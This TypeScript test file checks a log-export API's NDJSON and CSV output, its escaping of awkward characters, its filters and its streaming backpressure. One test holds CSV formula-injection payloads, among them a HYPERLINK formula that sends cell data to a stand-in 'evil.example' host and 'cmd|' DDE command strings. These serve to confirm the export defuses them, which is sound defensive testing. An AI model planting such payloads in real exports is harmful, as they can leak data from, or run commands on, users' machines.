import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { serve } from '@hono/node-server';
import type { Hono } from 'hono';
import { to as copyTo } from 'pg-copy-streams';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { copyTextReader } from '../server/store/copy-text.js';
import { ENTRY_FIELDS } from '../src/entry-fields.js';
import { exportCopySql } from '../server/store/export.js';
import type { StoredLogEntry } from '../src/types.js';
import { PLATFORM_KEY, bearer, createTestApp, insertEntries, makeEntry } from './server-fixtures.js';
import { parseCsv } from './support/csv.js';
import { useTestStores } from './support/stores.js';

const stores = useTestStores();
let app: Hono<any>;
let close: () => Promise<unknown>;

// Its quotes and backslash reach the export's SQL as literals: COPY takes no parameters.
const TENANT = `tenant 'odd' \\ ${randomUUID()}`;
const start = Date.now() - 3_600_000;
const at = (second: number) => new Date(start + second * 1000).toISOString();
const NULLABLE_TEXT = ENTRY_FIELDS.filter(
  ({ field, kind }) =>
    kind === 'text' && !['id', 'level', 'tenantId', 'service', 'message', 'environment'].includes(field),
);

// Every character that a COPY text, a JSON string or a CSV field has to escape, and one row
// large enough, in characters of several bytes, to be cut across chunks.
const entries: StoredLogEntry[] = [
  makeEntry({
    tenantId: TENANT,
    timestamp: at(1),
    message: 'tab\there, newline\nthere, CR\r, CRLF\r\n, backslash \\ and a literal \\n, a lone " quote, a comma',
  }),
  makeEntry({ tenantId: TENANT, timestamp: at(2), message: '\\N', action: '\\', file: '"', function: ',' }),
  makeEntry({
    tenantId: TENANT,
    timestamp: at(3),
    message: 'controls \u0001\u0007\b\f\u000b\u001b\u001f and DEL \u007f',
  }),
  makeEntry({
    tenantId: TENANT,
    timestamp: at(4),
    message: 'café ✓ 😀 עברית \u2028 \u2029',
    level: 'warn',
    errorSignature: 'sig-é',
  }),
  makeEntry({
    tenantId: TENANT,
    timestamp: at(5),
    level: 'error',
    message: 'payment failed',
    data: {
      path: 'C:\\temp\\new',
      nested: { quote: '"', lines: 'a\nb\r\nc', tab: '\t', emoji: '😀' },
      list: [1, 2.5, -3, true, null, 1e21],
      empty: {},
    },
    errorType: 'ProviderError',
    errorCode: 'E_502',
    errorStack: 'ProviderError: bad gateway\n    at capture (src/pay.ts:10:5)\n    at "quoted" \\ frame',
    errorSignature: 'sig-502',
    messageTemplate: 'payment failed',
  }),
  makeEntry({
    tenantId: TENANT,
    timestamp: at(6),
    line: null,
    data: null,
    ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, null])),
  }),
  makeEntry({
    tenantId: TENANT,
    timestamp: at(7),
    line: 0,
    data: {},
    ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, ''])),
  }),
  makeEntry({ tenantId: TENANT, timestamp: at(8), message: 'é😀\t"\\'.repeat(40_000) }),
];

async function get(path: string) {
  const response = await app.request(path, bearer(PLATFORM_KEY));
  return { status: response.status, text: await response.text() };
}

async function apiEntries(query: string): Promise<StoredLogEntry[]> {
  const { status, text } = await get(`/api/platform/logs?${query}&limit=1000`);
  expect(status).toBe(200);
  return JSON.parse(text).entries;
}

const ofTenant = `tenantId=${encodeURIComponent(TENANT)}`;

beforeAll(async () => {
  await insertEntries(stores.pool, entries);
  ({ app, close } = await createTestApp(stores));
});
afterAll(async () => close?.());

describe('export content', () => {
  test('NDJSON lines are the query API entries, key for key, whatever the characters', async () => {
    const expected = await apiEntries(ofTenant);
    expect(expected).toHaveLength(entries.length);
    const { status, text } = await get(`/api/platform/logs/export?format=ndjson&${ofTenant}`);
    expect(status).toBe(200);
    expect(text.endsWith('}\n')).toBe(true);
    const lines = text
      .slice(0, -1)
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual(expected);
    lines.forEach((line, i) => expect(Object.keys(line)).toEqual(Object.keys(expected[i])));
    expect(lines.map((line) => line.message)).toEqual([...entries].reverse().map((entry) => entry.message));
  });

  test('CSV records hold the same values: RFC 4180, CRLF, data as JSON, null as empty', async () => {
    const expected = await apiEntries(ofTenant);
    const { status, text } = await get(`/api/platform/logs/export?format=csv&${ofTenant}`);
    expect(status).toBe(200);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual(ENTRY_FIELDS.map(({ field }) => field));
    expect(records).toHaveLength(expected.length);
    records.forEach((record, i) => {
      ENTRY_FIELDS.forEach(({ field, kind }, column) => {
        const value = expected[i][field];
        if (kind === 'json' && value !== null) expect(JSON.parse(record[column])).toEqual(value);
        else expect(record[column]).toBe(value === null ? '' : String(value));
      });
    });
  });

  test('CSV cells a spreadsheet would run as a formula start with a quote; NDJSON keeps them as stored', async () => {
    const tenant = `formulas-${randomUUID()}`;
    // one value for each of OWASP's CSV injection starters: =, +, -, @, tab and carriage return
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd|"/C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const stored = [
      ...formulas.flatMap((value, i) => [
        makeEntry({ tenantId: tenant, timestamp: at(20 + 2 * i), requestId: value }),
        makeEntry({ tenantId: tenant, timestamp: at(21 + 2 * i), message: value }),
      ]),
      makeEntry({ tenantId: tenant, timestamp: at(40), message: 'a = 1+1, not at the start' }),
    ];
    await insertEntries(stores.pool, stored);
    const expected = [...stored].reverse();
    const cell = (value: string | null) => (value !== null && formulas.includes(value) ? `'${value}` : value);

    const { text } = await get(`/api/platform/logs/export?format=csv&tenantId=${tenant}`);
    const [header, ...records] = parseCsv(text);
    const [requestId, message] = [header.indexOf('requestId'), header.indexOf('message')];
    expect(records.map((record) => [record[requestId], record[message]])).toEqual(
      expected.map((entry) => [cell(entry.requestId), cell(entry.message)]),
    );
    expect(records.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);

    const ndjson = await get(`/api/platform/logs/export?format=ndjson&tenantId=${tenant}`);
    expect(
      ndjson.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual(expected);
  });

  test('filters reach the export as they reach the query: levels, services, words, tenant', async () => {
    const queries = [
      'level=warn,error',
      'service=storefront,admin&level=error',
      'q=payment',
      `q=${encodeURIComponent('"payment failed" -gateway')}`,
      `errorSignature=${encodeURIComponent('sig-é')}`,
    ];
    for (const query of queries) {
      const expected = (await apiEntries(`${ofTenant}&${query}`)).map((entry) => entry.id);
      expect(expected.length).toBeGreaterThan(0);
      const { text } = await get(`/api/platform/logs/export?${ofTenant}&${query}`);
      expect(
        text
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line).id),
      ).toEqual(expected);
    }
  });

  test('the COPY text reader gives the same rows whatever the chunks, cut inside characters too', async () => {
    const client = await stores.pool.connect();
    const raw: Buffer[] = [];
    try {
      const to = new Date(Date.now() + 60_000);
      for await (const chunk of client.query(copyTo(exportCopySql({ tenantId: TENANT, to }, 100)))) raw.push(chunk);
    } finally {
      client.release();
    }
    const bytes = Buffer.concat(raw);
    const whole = copyTextReader()(bytes);
    expect(whole.map((fields) => fields[ENTRY_FIELDS.findIndex(({ field }) => field === 'message')])).toEqual(
      [...entries].reverse().map((entry) => entry.message),
    );
    for (const size of [1, 7, 4096]) {
      const read = copyTextReader();
      const rows = [];
      for (let offset = 0; offset < bytes.length; offset += size)
        rows.push(...read(bytes.subarray(offset, offset + size)));
      expect(rows).toEqual(whole);
    }
  });
});

describe('export stream', () => {
  const BIG_TENANT = `big-${randomUUID()}`;
  const ROWS = 25_000;
  let server: ReturnType<typeof serve>;
  let port: number;

  beforeAll(async () => {
    // About 80 MB of NDJSON, far more than the sockets between PostgreSQL, the server and the client hold.
    await stores.pool.query(
      `INSERT INTO platform_logs (id, "timestamp", level, tenant_id, service, message, environment)
       SELECT gen_random_uuid(), $3::timestamptz - i * interval '1 millisecond', 'info', $1, 'storefront', repeat(md5(i::text) || ' ', 90), 'test'
       FROM generate_series(1, $2) AS i`,
      // the server's clock, not PostgreSQL's: the export's time range is the server's
      [BIG_TENANT, ROWS, new Date().toISOString()],
    );
    server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' });
    if (!server.listening) await once(server, 'listening');
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    (server as http.Server).closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });

  const exportBackends = async () =>
    (
      await stores.pool.query<{ pid: number; wait_event: string | null }>(
        `SELECT pid, wait_event FROM pg_stat_activity WHERE query LIKE 'COPY %' AND query LIKE '%' || $1 || '%' AND pid <> pg_backend_pid()`,
        [BIG_TENANT],
      )
    ).rows;

  async function until<T>(check: () => Promise<T | undefined>, what: string): Promise<T> {
    const deadline = Date.now() + 20_000;
    for (;;) {
      const value = await check();
      if (value !== undefined) return value;
      if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  const checkedOut = () => stores.pool.totalCount - stores.pool.idleCount;

  test('a client that stops reading holds PostgreSQL back; when it leaves, the COPY ends and the connection is free', async () => {
    const request = http.get(
      `http://127.0.0.1:${port}/api/platform/logs/export?tenantId=${BIG_TENANT}`,
      bearer(PLATFORM_KEY),
    );
    const [response] = (await once(request, 'response')) as [http.IncomingMessage];
    expect(response.statusCode).toBe(200);
    response.once('data', () => response.pause());
    const held = async () => {
      const rows = await exportBackends();
      return rows.length === 1 && rows[0].wait_event === 'ClientWrite' ? rows[0] : undefined;
    };
    const backend = await until(held, 'PostgreSQL waits for the server to take more');
    // Still held a moment later: nothing in between reads ahead of the client.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect((await held())?.pid).toBe(backend.pid);
    expect(checkedOut()).toBe(1);

    request.destroy();
    await until(
      async () => ((await exportBackends()).some((row) => row.pid === backend.pid) ? undefined : true),
      'the COPY has ended',
    );
    await until(async () => (checkedOut() === 0 ? true : undefined), 'the connection is back in the pool');

    const { status, text } = await get(`/api/platform/logs/export?tenantId=${BIG_TENANT}&limit=3`);
    expect(status).toBe(200);
    expect(text.trimEnd().split('\n')).toHaveLength(3);
  });

  test('a whole export ends with every row and gives its connection back', async () => {
    const response = await fetch(
      `http://127.0.0.1:${port}/api/platform/logs/export?format=csv&tenantId=${BIG_TENANT}`,
      bearer(PLATFORM_KEY),
    );
    let lines = 0;
    for await (const chunk of response.body!) {
      const bytes = Buffer.from(chunk);
      for (let i = bytes.indexOf(0x0a); i !== -1; i = bytes.indexOf(0x0a, i + 1)) lines++;
    }
    expect(lines).toBe(ROWS + 1);
    expect(checkedOut()).toBe(0);
  });
});
